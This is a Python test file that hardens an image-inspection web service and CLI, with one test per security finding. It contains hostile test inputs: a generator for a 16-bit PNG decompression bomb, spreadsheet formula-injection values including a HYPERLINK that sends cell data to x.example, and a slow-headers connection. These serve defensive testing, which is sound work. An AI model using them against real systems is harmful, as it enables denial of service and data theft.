"""Issue 18, hardening of the inspection service and the CLI: one test per finding (each fails on the code
before the fix), the fault-and-load run in short, and schemathesis against the OpenAPI document."""

from __future__ import annotations

import csv
import io
import logging
import socket
import struct
import threading
import time
import zlib
from pathlib import Path

import numpy as np
import pytest

pytest.importorskip("fastapi", reason="the serving dependencies (fastapi, uvicorn, sqlalchemy) are not installed")
httpx = pytest.importorskip("httpx")

from serving_support import LiveServer, shared_inference, small_model  # noqa: E402

from vinspect.serving.app import Service, create_app  # noqa: E402
from vinspect.serving.inference import InferenceService  # noqa: E402

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture(scope="module")
def model_dir(neu_small):
    return small_model(neu_small)


@pytest.fixture(scope="module")
def inference(model_dir):
    return shared_inference(model_dir)


@pytest.fixture(scope="module")
def jpegs(neu_small):
    return sorted((neu_small / "scratches").glob("*.jpg"))


class Wrapped:
    """The real predictor with predict_pixels replaced (a failing or slow model)."""

    def __init__(self, real, predict_pixels):
        self._real = real
        self.predict_pixels = predict_pixels

    def __getattr__(self, name):
        return getattr(self._real, name)


def _service(model_dir, tmp_path, inference, **kw):
    return Service(model_dir, db=f"sqlite:///{tmp_path / 'log.sqlite3'}", inference=inference, **kw)


def _jpeg_post(c, data, **headers):
    return c.post("/v1/inspect", content=data, headers={"Content-Type": "image/jpeg", **headers})


# -- 2. a broken model never freezes the service ----------------------------------------------------------

def test_a_model_giving_too_few_predictions_answers_instead_of_hanging(model_dir, inference, tmp_path, jpegs):
    """Before: the worker zipped the batch with the predictions; a future without one was never resolved
    and the request hung."""
    inf = InferenceService(model_dir, predictor=Wrapped(inference.predictor, lambda pixels: []), max_batch=2)
    inf.start()
    svc = _service(model_dir, tmp_path, inf)
    try:
        with LiveServer(create_app(svc)) as srv, httpx.Client(base_url=srv.url, timeout=20) as c:
            r = _jpeg_post(c, jpegs[0].read_bytes())
            assert r.status_code == 500 and r.json()["error"] == "model_error"
            rec = c.get(f"/v1/inspections/{r.json()['id']}").json()
            assert rec["status"] == "rejected" and rec["image"]["sha256"]
            assert c.get("/healthz").status_code == 200  # the worker lives on
    finally:
        inf.stop()


def test_a_dead_model_worker_is_restarted_or_fails_the_health_check(model_dir, inference, tmp_path, jpegs,
                                                                     monkeypatch):
    inf = InferenceService(model_dir, predictor=inference.predictor, max_batch=2)
    inf.start()
    svc = _service(model_dir, tmp_path, inf)
    try:
        with LiveServer(create_app(svc)) as srv, httpx.Client(base_url=srv.url, timeout=20) as c:
            inf._queue.put(None)  # the worker ends, as one killed by an error outside its try did
            inf._threads[0].join(5)
            assert not inf._threads[0].is_alive()
            h = c.get("/healthz")
            assert h.status_code == 200 and h.json()["worker_restarts"] == 1 and h.json()["workers_alive"] == 1
            assert _jpeg_post(c, jpegs[1].read_bytes()).status_code == 200  # before: hung for ever
            # a worker that cannot be started again: /healthz says so
            def dead(_i):
                t = threading.Thread(target=lambda: None)
                t.start()
                t.join()
                return t

            monkeypatch.setattr(inf, "_spawn", dead)
            inf._queue.put(None)
            inf._threads[0].join(5)
            h = c.get("/healthz")
            assert h.status_code == 503 and h.json()["status"] == "error" and h.json()["workers_alive"] == 0
    finally:
        inf.stop()


def test_a_model_pool_never_started_starts_on_first_use(model_dir, inference, jpegs):
    inf = InferenceService(model_dir, predictor=inference.predictor, max_batch=1)
    try:  # before: the job waited in the queue for ever
        assert inf.predict(inf.prepare(jpegs[7].read_bytes()).pixels, timeout=60).label in inference.classes
    finally:
        inf.stop()


def test_every_request_has_a_deadline(model_dir, inference, tmp_path, jpegs):
    release = threading.Event()

    def stuck(pixels):
        release.wait(20)
        return inference.predictor.predict_pixels(pixels)

    inf = InferenceService(model_dir, predictor=Wrapped(inference.predictor, stuck), max_batch=1)
    inf.start()
    svc = _service(model_dir, tmp_path, inf, request_timeout_s=0.5)
    try:
        with LiveServer(create_app(svc)) as srv, httpx.Client(base_url=srv.url, timeout=20) as c:
            t0 = time.monotonic()
            r = _jpeg_post(c, jpegs[2].read_bytes())
            assert time.monotonic() - t0 < 5
            assert r.status_code == 503 and r.json()["error"] == "deadline" and r.headers["retry-after"]
            assert c.get(f"/v1/inspections/{r.json()['id']}").json()["error"]["code"] == "deadline"
            release.set()
            ok = _jpeg_post(c, jpegs[2].read_bytes())
            assert ok.status_code == 200
            hold = threading.Event()
            inf.predictor.explain = lambda *a, **k: hold.wait(20)  # a heatmap that never comes
            t0 = time.monotonic()
            h = c.get(ok.json()["heatmap_url"])
            assert h.status_code == 503 and h.json()["error"] == "deadline" and h.headers["retry-after"]
            assert time.monotonic() - t0 < 5
            hold.set()
    finally:
        release.set()
        inf.stop()


# -- 3. bounded decoding --------------------------------------------------------------------------------

def png16_bomb(w: int = 6300, h: int = 6300) -> bytes:
    """A 16-bit grey PNG of w x h black pixels: about 90 KB that decode to gigabytes of arrays."""
    chunk = lambda t, d: struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))  # noqa: E731
    z = zlib.compressobj(9)
    row = b"\0" * (1 + 2 * w)
    idat = b"".join(z.compress(row) for _ in range(h)) + z.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 16, 0, 0, 0, 0))
            + chunk(b"IDAT", idat) + chunk(b"IEND", b""))


def test_the_16_bit_png_bomb_is_refused_before_decoding(model_dir, inference):
    from vinspect.serving.inference import Rejection
    from vinspect.serving.limits import DEFAULT_MAX_PIXELS

    bomb = png16_bomb()
    assert len(bomb) < 200_000
    assert DEFAULT_MAX_PIXELS < 6300 * 6300 < 40_000_000  # under the old default limit, over the new one
    inf = InferenceService(model_dir, predictor=inference.predictor)
    with pytest.raises(Rejection) as e:
        inf.prepare(bomb)
    assert e.value.status == 413 and e.value.code == "too_many_pixels"
    # with the old pixel limit, the decode memory budget refuses it: 40 Mpx x 16 bytes > 512 MiB
    inf = InferenceService(model_dir, predictor=inference.predictor, max_pixels=40_000_000)
    t0 = time.perf_counter()
    with pytest.raises(Rejection) as e:
        inf.prepare(bomb)
    assert e.value.status == 413 and e.value.code == "over_decode_memory" and "MiB" in e.value.message
    assert time.perf_counter() - t0 < 1.0  # header only (the decode took 3.5 s and 1 GB)


def test_16_bit_decoding_takes_a_fraction_of_the_memory_and_gives_the_same_pixels():
    import tracemalloc

    from PIL import Image

    from vinspect.data.decode import decode_cost, open_image

    rng = np.random.default_rng(0)
    a = rng.integers(0, 65536, (600, 500), dtype=np.uint16)
    buf = io.BytesIO()
    Image.fromarray(a).save(buf, "PNG")  # mode I;16
    data = buf.getvalue()
    tracemalloc.start()
    img = open_image(data)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    want = np.clip(np.rint(a / 257.0), 0, 255).astype(np.uint8)
    assert (np.asarray(img)[..., 0] == want).all()
    assert peak < 8 * a.size  # the raw bytes (2), uint32 (4), uint8 (1); before: float64 twice and more (>= 18)
    assert decode_cost(500, 600, "I;16") >= 16 * a.size


def test_the_decode_budget_makes_decodes_wait_then_refuses():
    from vinspect.serving.inference import DecodeBudget, Rejection

    b = DecodeBudget(100)
    with b.hold(60, 1):
        with pytest.raises(Rejection) as e, b.hold(60, 0.2):
            pass
        assert e.value.status == 503
        with b.hold(40, 0.2):  # fits beside it
            assert b.used == 100
    with pytest.raises(Rejection) as e, b.hold(101, 1):
        pass
    assert e.value.status == 413 and b.used == 0


def test_thumbnails_are_decoded_in_the_bounded_decode_pool_and_cached(model_dir, inference, tmp_path, jpegs,
                                                                      monkeypatch):
    svc = _service(model_dir, tmp_path, inference)
    seen = []
    real = inference.thumbnail

    def spy(*a, **k):
        seen.append(threading.current_thread().name)
        return real(*a, **k)

    monkeypatch.setattr(inference, "thumbnail", spy)
    with LiveServer(create_app(svc)) as srv, httpx.Client(base_url=srv.url, timeout=20) as c:
        i = _jpeg_post(c, jpegs[3].read_bytes()).json()["id"]
        for _ in range(2):
            t = c.get(f"/v1/inspections/{i}/image", params={"max_size": 40})
            assert t.status_code == 200 and t.headers["content-type"] == "image/jpeg"
    assert seen and all(n.startswith("vinspect-decode") for n in seen)  # before: Starlette's 40 threads
    key = (svc.db.get(i)["image_sha256"], 40)
    assert key in inference._thumbs


# -- 4. the API key -------------------------------------------------------------------------------------

def test_with_a_key_every_endpoint_needs_it_but_healthz(model_dir, inference, tmp_path, jpegs):
    svc = _service(model_dir, tmp_path, inference, api_key="k3y")
    key = {"X-API-Key": "k3y"}
    with LiveServer(create_app(svc)) as srv, httpx.Client(base_url=srv.url, timeout=20) as c:
        i = _jpeg_post(c, jpegs[4].read_bytes(), **key).json()["id"]
        paths = ["/v1/inspections", f"/v1/inspections/{i}", f"/v1/inspections/{i}/image",
                 f"/v1/inspections/{i}/image?max_size=32", f"/v1/inspections/{i}/heatmap.png", "/v1/stats",
                 "/v1/model", "/metrics", "/openapi.json", "/docs"]
        for p in paths:
            r = c.get(p)
            assert r.status_code == 401 and r.json()["error"] == "unauthorized", p
            if not p.endswith("heatmap.png"):  # (drawing one takes seconds: its 200 is tested in test_serving)
                assert c.get(p, headers=key).status_code == 200, p
        assert c.get("/v1/inspections", headers={"Authorization": "Bearer k3y"}).status_code == 200
        assert c.get(f"/v1/inspections/{i}/image", cookies={"vinspect_key": "k3y"}).status_code == 200
        assert c.get("/healthz").status_code == 200 and c.get("/").status_code == 200
    svc = _service(model_dir, tmp_path, inference, api_key="k3y", metrics_public=True)
    with LiveServer(create_app(svc)) as srv, httpx.Client(base_url=srv.url, timeout=20) as c:
        assert c.get("/metrics").status_code == 200 and c.get("/v1/model").status_code == 401


def test_an_empty_key_is_refused_and_an_exposed_open_service_warned(model_dir, inference, tmp_path, capsys):
    from vinspect.cli import main
    from vinspect.errors import BadInputError

    with pytest.raises(BadInputError, match="empty"):
        _service(model_dir, tmp_path, inference, api_key="  ")
    assert main(["serve", str(model_dir), "--api-key", "", "--port", "0"]) == 2
    err = capsys.readouterr().err
    assert "empty" in err and len(err.strip().splitlines()) == 1
    from vinspect.cli.serve import exposure_warning

    assert "without an API key" in exposure_warning("0.0.0.0", None)
    assert "without an API key" in exposure_warning("192.168.1.20", None)
    for host, key in (("127.0.0.1", None), ("::1", None), ("127.0.0.2", None), ("localhost", None),
                      ("0.0.0.0", "k3y")):
        assert exposure_warning(host, key) is None, host


def test_the_model_description_publishes_no_local_path(model_dir, inference, tmp_path):
    svc = _service(model_dir, tmp_path, inference)
    saved = dict(svc.inference.bundle.training)
    svc.inference.bundle.training.update({"data": "/home/operator/secret-line-7/images",
                                          "nested": {"cache": "C:\\data\\cache", "n": 3}, "n_images": 30})
    try:
        with LiveServer(create_app(svc)) as srv, httpx.Client(base_url=srv.url, timeout=20) as c:
            text = c.get("/v1/model").text
    finally:
        svc.inference.bundle.training.clear()
        svc.inference.bundle.training.update(saved)
    assert "secret-line-7" not in text and "C:\\\\data" not in text and str(model_dir) not in text
    assert str(tmp_path) not in text and '"n_images":30' in text.replace(" ", "")


# -- 5. parameters: 422, and a true OpenAPI document ----------------------------------------------------

def test_overflowing_parameters_are_422_not_500(model_dir, inference, tmp_path):
    svc = _service(model_dir, tmp_path, inference)
    with LiveServer(create_app(svc)) as srv, httpx.Client(base_url=srv.url, timeout=20) as c:
        for url in ("/v1/inspections?offset=9223372036854775808", "/v1/inspections/9223372036854775808",
                    "/v1/inspections?since=9999999d", "/v1/inspections?since=0001-01-01T00:00:00%2B01:00",
                    "/v1/stats?since=999999999w", "/v1/inspections/0/image?max_size=99999999999999999999"):
            r = c.get(url)
            assert r.status_code == 422, (url, r.status_code, r.text)
            assert r.json()["error"] == "bad_parameter" and r.json()["detail"], url
        spec = c.get("/openapi.json").json()
    since = next(p for p in spec["paths"]["/v1/inspections"]["get"]["parameters"] if p["name"] == "since")
    assert "pattern" in str(since["schema"])  # documented as the forms it takes, not a free string
    for path, ops in spec["paths"].items():
        for op in ops.values():
            r422 = op["responses"].get("422")
            if r422:
                assert r422["content"]["application/json"]["schema"]["$ref"].endswith("/ErrorOut"), path


# -- 6. idempotency keyed on the request id and the image -------------------------------------------------

def test_a_replayed_request_id_with_another_image_is_409(model_dir, inference, tmp_path, jpegs):
    svc = _service(model_dir, tmp_path, inference)
    with LiveServer(create_app(svc)) as srv, httpx.Client(base_url=srv.url, timeout=20) as c:
        a = _jpeg_post(c, jpegs[5].read_bytes(), **{"X-Request-Id": "part-42"})
        same = _jpeg_post(c, jpegs[5].read_bytes(), **{"X-Request-Id": "part-42"})
        other = _jpeg_post(c, jpegs[6].read_bytes(), **{"X-Request-Id": "part-42"})
        assert a.status_code == 200 and same.status_code == 200 and same.json()["id"] == a.json()["id"]
        assert other.status_code == 409 and other.json()["error"] == "request_id_conflict"  # before: a's verdict
        rec = c.get(f"/v1/inspections/{other.json()['id']}").json()
        assert rec["status"] == "rejected" and rec["image"]["sha256"] != a.json()["image"]["sha256"]


# -- 7. a damaged feature cache -------------------------------------------------------------------------

def test_a_damaged_feature_cache_is_set_aside_and_its_lost_rows_recomputed(tmp_path, caplog):
    import h5py

    from vinspect.features.cache import KEEP_CORRUPT, FeatureCache

    meta = {"backbone": "b", "layer": "l", "pool": "avg", "preprocessing": {"input_size": 8}}
    rng = np.random.default_rng(1)
    keys = [f"{i:064x}" for i in range(1000)]
    feats = rng.normal(size=(1000, 64)).astype(np.float32)
    with FeatureCache(tmp_path, meta) as c:
        c.put(keys, feats)
        path = c.path
    for attempt in range(KEEP_CORRUPT + 2):
        with h5py.File(path, "r") as f:  # overwrite the stored bytes of the second chunk of features
            info = f["features"].id.get_chunk_info(1)
        with open(path, "r+b") as fh:
            fh.seek(info.byte_offset + 10)
            fh.write(b"\xde\xad\xbe\xef" * 64)
        with caplog.at_level(logging.WARNING, logger="vinspect.cache"):
            with FeatureCache(tmp_path, meta) as c:  # before: OSError "filter returned failure" on get
                assert c.recovered_from and "corrupt" in c.recovered_from
                have = [k for k in keys if c.contains(k)]
                assert 0 < len(have) < len(keys)
                got = c.get(have)
                idx = [int(k, 16) for k in have]
                assert np.array_equal(got, feats[idx])  # the rows kept are the rows written
                lost = [k for k in keys if not c.contains(k)]
                c.put(lost, feats[[int(k, 16) for k in lost]])  # what extraction does: compute them again
            with FeatureCache(tmp_path, meta) as c:
                assert c.recovered_from is None and np.array_equal(c.get(keys), feats)
        assert sum("damaged" in r.getMessage() for r in caplog.records) == 1
        caplog.clear()
    assert len(list(tmp_path.glob("*.corrupt-*.h5"))) == KEEP_CORRUPT


# -- 8. serve's exit codes --------------------------------------------------------------------------------

def test_serve_start_up_failures_use_the_documented_exit_codes(model_dir, tmp_path, capsys, monkeypatch):
    from vinspect.cli import main
    from vinspect.errors import BadInputError
    from vinspect.serving import app as app_module

    def broken(self):
        raise RuntimeError("warm-up failed")

    monkeypatch.setattr(app_module.Service, "start", broken)
    assert main(["serve", str(model_dir), "--port", "0", "--db", str(tmp_path / "a.sqlite3")]) == 1  # before: 3
    err = capsys.readouterr().err
    assert "warm-up failed" in err and len(err.strip().splitlines()) == 1

    def bad(self):
        raise BadInputError("the model's weights do not fit its head")

    monkeypatch.setattr(app_module.Service, "start", bad)
    assert main(["serve", str(model_dir), "--port", "0", "--db", str(tmp_path / "b.sqlite3")]) == 2
    assert "do not fit" in capsys.readouterr().err


# -- 9. smaller findings ----------------------------------------------------------------------------------

def test_csv_export_neutralises_formulas(tmp_path):
    from vinspect.cli import main
    from vinspect.serving.db import open_database, utcnow

    url = f"sqlite:///{tmp_path / 'f.sqlite3'}"
    db = open_database(url)
    evil = {"part_id": '=HYPERLINK("http://x.example/?"&A1,"click")', "station": "+1+2", "filename": "@SUM(A1)",
            "request_id": "-2+3"}
    db.insert({"created_at": utcnow(), "status": "ok", "http_status": 200, "label": "ok", "score": 0.9, **evil})
    db.close()
    out = tmp_path / "x.csv"
    assert main(["inspections", "export", "--db", url, "--csv", str(out), "-q"]) == 0
    row = next(csv.DictReader(out.open()))
    for k, v in evil.items():
        assert row[k] == "'" + v, k  # a spreadsheet shows the text instead of running it
    assert row["score"] == "0.9"


def _png(a: np.ndarray) -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.fromarray(a).save(buf, "PNG")
    return buf.getvalue()


def test_degenerate_images_get_no_verdict_and_rejections_keep_the_sha256(model_dir, inference, tmp_path):
    import hashlib

    svc = _service(model_dir, tmp_path, inference)
    cases = {"1x1": _png(np.full((1, 1), 90, np.uint8)), "constant": _png(np.full((300, 300), 128, np.uint8)),
             "40000x1": _png(np.arange(40000, dtype=np.uint8)[None, :]),
             "10x400": _png(np.random.default_rng(0).integers(0, 255, (10, 400), dtype=np.uint8))}
    with LiveServer(create_app(svc)) as srv, httpx.Client(base_url=srv.url, timeout=20) as c:
        for name, data in cases.items():
            r = c.post("/v1/inspect", content=data, headers={"Content-Type": "image/png"})
            assert r.status_code == 400 and r.json()["error"] == "degenerate_image", (name, r.text)
            rec = c.get(f"/v1/inspections/{r.json()['id']}").json()
            assert rec["image"]["sha256"] == hashlib.sha256(data).hexdigest(), name
        for name, kw, body in (
                ("text", {"content": b"hello", "headers": {"Content-Type": "text/plain"}}, b"hello"),
                ("multipart without file", {"files": {"other": ("", b"xyz", "")}}, None)):
            r = c.post("/v1/inspect", **kw)
            assert 400 <= r.status_code < 500
            rec = c.get(f"/v1/inspections/{r.json()['id']}").json()
            assert rec["image"]["sha256"], name  # before: None although a body was received
            if body is not None:
                assert rec["image"]["sha256"] == hashlib.sha256(body).hexdigest()


def test_a_connection_that_never_finishes_its_headers_is_closed(model_dir, inference, tmp_path):
    import uvicorn

    from vinspect.serving.server import uvicorn_config

    svc = _service(model_dir, tmp_path, inference)
    srv = LiveServer(create_app(svc))
    srv.server = uvicorn.Server(uvicorn_config(create_app(svc), header_timeout_s=1.0, log_level="warning",
                                               access_log=False, timeout_graceful_shutdown=5))
    srv.thread = threading.Thread(target=srv.server.run, kwargs={"sockets": [srv.sock]}, daemon=True)
    with srv:
        s = socket.create_connection(("127.0.0.1", srv.port), timeout=10)
        try:
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            t0 = time.monotonic()
            assert s.recv(100) == b""  # closed by the server
            assert time.monotonic() - t0 < 5
        finally:
            s.close()
        assert httpx.get(f"{srv.url}/healthz", timeout=10).status_code == 200  # others are served


# -- acceptance 2 and 3 -----------------------------------------------------------------------------------

def test_fault_and_load_in_short(model_dir, tmp_path, neu_small):
    """benchmarks/service_faults.py in short: 4 clients, 40 good + 16 hostile requests, a kill -9 and a
    restart: every acknowledged good request logged exactly once, no 5xx, answers within the deadline."""
    import importlib.util

    spec = importlib.util.spec_from_file_location("service_faults", ROOT / "benchmarks" / "service_faults.py")
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    res = mod.run(model_dir, tmp_path, images=neu_small, n_good=40, n_hostile=16, clients=4, request_timeout_s=20,
                  threads=1, deadline_s=240)
    assert res["acknowledged_good"] >= 20 and res["logged_exactly_once"] and res["n_5xx"] == 0, res
    assert res["kills"] == 1 and res["slowest_answer_s"] < 20 + 5, res
    assert res["peak_rss_mb"] < 2048, res


def test_schemathesis_finds_no_5xx_and_no_schema_violation(model_dir, inference, tmp_path):
    schemathesis = pytest.importorskip("schemathesis", reason="schemathesis (dev extra) is not installed")
    from hypothesis import HealthCheck, given, settings
    from schemathesis.checks import not_a_server_error
    from schemathesis.specs.openapi.checks import (
        content_type_conformance,
        response_schema_conformance,
        status_code_conformance,
    )

    svc = _service(model_dir, tmp_path, inference)
    app = create_app(svc)
    svc.start()
    schema = schemathesis.openapi.from_asgi("/openapi.json", app)
    failures, calls = [], []
    for op in schema.get_all_operations():
        op = op.ok()
        if op.path == "/v1/inspect" or op.path.endswith("heatmap.png"):
            continue  # exercised with real images above (a heatmap takes seconds a call)

        @settings(max_examples=15, deadline=None, derandomize=True,
                  suppress_health_check=list(HealthCheck), database=None)
        @given(case=op.as_strategy())
        def check(case):
            resp = case.call()
            calls.append(resp.status_code)
            try:
                case.validate_response(resp, checks=[not_a_server_error, status_code_conformance,
                                                     content_type_conformance, response_schema_conformance])
            except Exception as e:  # noqa: BLE001 - collected, reported together
                failures.append(f"{case.method} {case.formatted_path} {case.query}: {str(e)[:300]}")

        check()
    assert not failures, "\n".join(failures[:5])
    assert len(calls) >= 50 and any(c == 422 for c in calls) and any(c == 200 for c in calls)
